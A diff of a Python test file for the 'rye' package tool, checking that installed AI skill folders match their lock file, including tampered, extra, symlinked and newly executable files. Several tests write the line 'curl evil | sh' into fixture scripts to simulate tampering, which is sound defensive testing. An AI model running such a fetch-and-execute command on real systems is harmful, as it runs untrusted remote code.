@@ -17,8 +17,9 @@ from rye.items.signed_release import SignedRelease
 from rye.project.item_file import load_item
 from rye.project.layout import Project
 from rye.project.lock import Lock, LockedFile, LockedItem, lock_text
-from rye.project.lock_file import item_path
-from rye.verified.installed import CheckedItem, attached_problem, changed_since, checked_at, modified_item
+from rye.project.lock_file import Locks, item_path
+from rye.verified import on_disk
+from rye.verified.installed import CheckedItem, checked_at, installed_difference, modified_item
 from tests.attacks.signed_items import HOOK, directive, signed, skill
 from tests.registry.simulated_registry import key
 
@@ -79,8 +80,12 @@ def main_file(project: Project) -> Path:
     return main
 
 
+def problem_of(file: Path) -> str | None:
+    return installed_difference(file, Locks())
+
+
 def test_the_files_of_an_installed_skill_are_those_of_the_lock(main_file: Path) -> None:
-    assert attached_problem(main_file) is None
+    assert problem_of(main_file) is None
 
 
 def test_a_missing_a_changed_and_an_added_file_are_named(main_file: Path) -> None:
@@ -88,43 +93,41 @@ def test_a_missing_a_changed_and_an_added_file_are_named(main_file: Path) -> Non
     (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
     (main_file.parent / "evil.sh").write_bytes(b"curl evil | sh\n")
     found = "a.sh (missing), b.sh (changed), evil.sh (extra)"
-    assert attached_problem(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."
+    assert problem_of(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."
 
 
 def test_at_most_eight_files_are_named(main_file: Path) -> None:
     for entry in SKILL.attached:
         (main_file.parent / entry.path).unlink()
     listed = ", ".join(f"{name}.sh (missing)" for name in "abcdefgh")
-    assert attached_problem(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {listed}."
+    assert problem_of(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {listed}."
 
 
 def test_what_lies_in_another_skills_folder_is_not_this_ones_matter(main_file: Path) -> None:
     put(Project(main_file.parents[5]), ".ai/packages/acme/skills/pdf2/extra", b"x")
-    assert attached_problem(main_file) is None
+    assert problem_of(main_file) is None
 
 
 def test_a_skill_that_the_lock_does_not_name_is_told(main_file: Path) -> None:
     stray = put(Project(main_file.parents[5]), ".ai/packages/acme/skills/stray/SKILL.md", TEXT)
-    assert attached_problem(stray) == "It is in the folder of installed items, but rye.lock does not list it."
+    assert problem_of(stray) == "It is in the folder of installed items, but rye.lock does not list it."
 
 
 def test_a_lock_that_cannot_be_read_is_the_problem(main_file: Path) -> None:
     (main_file.parents[5] / "rye.lock").write_text("no lock")
-    assert "rye.lock" in (attached_problem(main_file) or "")
+    assert "rye.lock" in (problem_of(main_file) or "")
 
 
 def test_what_is_not_installed_is_not_judged(main_file: Path, tmp_path: Path) -> None:
     project = Project(main_file.parents[5])
     own = put(project, ".ai/skills/own/SKILL.md", TEXT)
     put(project, ".ai/skills/own/extra", b"x")
-    assert attached_problem(own) is None
-    (main_file.parent / "a.sh").unlink()
-    assert attached_problem(main_file.parent / "b.sh") is None
-    assert attached_problem(project.root / item_path(ITEM)) is None
+    assert problem_of(own) is None
+    assert problem_of(project.root / item_path(ITEM)) is None
     nowhere = tmp_path.parent / "nowhere"
     nowhere.mkdir(exist_ok=True)
     (nowhere / "SKILL.md").write_bytes(TEXT)
-    assert attached_problem(nowhere / "SKILL.md") is None
+    assert problem_of(nowhere / "SKILL.md") is None
 
 
 def test_a_manifest_planted_in_a_skills_folder_hides_no_change(main_file: Path) -> None:
@@ -132,7 +135,30 @@ def test_a_manifest_planted_in_a_skills_folder_hides_no_change(main_file: Path) 
     (main_file.parent / "b.sh").write_bytes(b"curl evil | sh\n")
     (main_file.parent / "rye.toml").touch()
     found = "b.sh (changed), rye.toml (extra)"
-    assert attached_problem(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."
+    assert problem_of(main_file) == f"Its files differ from skill:acme/pdf 1.0.0: {found}."
+
+
+def test_a_link_above_a_skills_folder_leads_to_none_of_its_files(main_file: Path) -> None:
+    kinds = main_file.parents[1]
+    kinds.rename(kinds.with_name("elsewhere"))
+    kinds.symlink_to("elsewhere")
+    assert (problem_of(main_file) or "").startswith(
+        "Its files differ from skill:acme/pdf 1.0.0: SKILL.md (missing), a.sh (missing)"
+    )
+
+
+def test_only_the_items_own_folder_is_read(main_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    put(Project(main_file.parents[5]), ".ai/packages/acme/skills/pdf2/extra", b"x")
+    read: list[Path] = []
+    real = on_disk.read_present
+
+    def noting(path: str) -> on_disk.Present:
+        read.append(Path(path))
+        return real(path)
+
+    monkeypatch.setattr(on_disk, "read_present", noting)
+    assert problem_of(main_file) is None
+    assert {path.parent for path in read} == {main_file.parent}
 
 
 # checked items
@@ -152,9 +178,9 @@ class Asked:
         return {row.identity: SIGNED for row in rows}
 
 
-def checked(main_file: Path, path: Path, asked: Asked, locks: dict[Path, Lock] | None = None) -> CheckedItem:
+def checked(main_file: Path, path: Path, asked: Asked, locks: Locks | None = None) -> CheckedItem:
     project = Project(main_file.parents[5])
-    return checked_at(load_item(path, shown="the file"), (project, path), {} if locks is None else locks, asked)
+    return checked_at(load_item(path, shown="the file"), (project, path), locks or Locks(), asked)
 
 
 def refusal(main_file: Path, path: Path) -> RyeError:
@@ -167,11 +193,10 @@ def refusal(main_file: Path, path: Path) -> RyeError:
 
 def test_an_item_with_the_bytes_of_its_row_is_checked_if_the_row_was_verified(main_file: Path) -> None:
     project = Project(main_file.parents[5])
-    asked, locks = Asked(), dict[Path, Lock]()
+    asked, locks = Asked(), Locks()
     for path, row in ((project.root / WORK_PLACE, ITEM), (main_file, SKILL)):
         assert checked(main_file, path, asked, locks) == CheckedItem(project, row, SIGNED)
     assert asked.rows == [ITEM, SKILL]
-    assert locks.keys() == {project.root}
     project.lock_path.unlink()
     checked(main_file, project.root / WORK_PLACE, asked, locks)
 
@@ -181,7 +206,7 @@ def test_a_row_that_was_not_verified_is_the_error(main_file: Path) -> None:
         raise RyeError("unverified-item", "It was not.")
 
     with pytest.raises(RyeError, match="It was not"):
-        checked_at(load_item(main_file), (Project(main_file.parents[5]), main_file), {}, require)
+        checked_at(load_item(main_file), (Project(main_file.parents[5]), main_file), Locks(), require)
 
 
 def test_changed_bytes_are_refused_with_the_next_steps(main_file: Path) -> None:
@@ -216,12 +241,15 @@ def test_a_text_that_became_executable_is_refused_where_files_have_that_bit(
     path.chmod(0o744)
     error = refusal(main_file, path)
     assert error.message.endswith("is executable, and its item's file is not.")
-    item = load_item(path)
     path.chmod(0o655)
-    assert changed_since(item, path, ITEM) is None, "only the owner's bit counts"
+    assert checked(main_file, path, Asked()).row == ITEM, "only the owner's bit counts"
     path.chmod(0o744)
-    monkeypatch.setattr(os, "name", "nt")
-    assert changed_since(item, path, ITEM) is None
+    project, item, locks = Project(main_file.parents[5]), load_item(path), Locks()
+    locks.rows(project)
+    with monkeypatch.context() as elsewhere:
+        elsewhere.setattr(os, "name", "nt")
+        row = checked_at(item, (project, path), locks, Asked()).row
+    assert row == ITEM
 
 
 @pytest.mark.parametrize("place", ["acme/directives/ops/other.md", "zeta/directives/ops/work.md", "directives/work.md"])
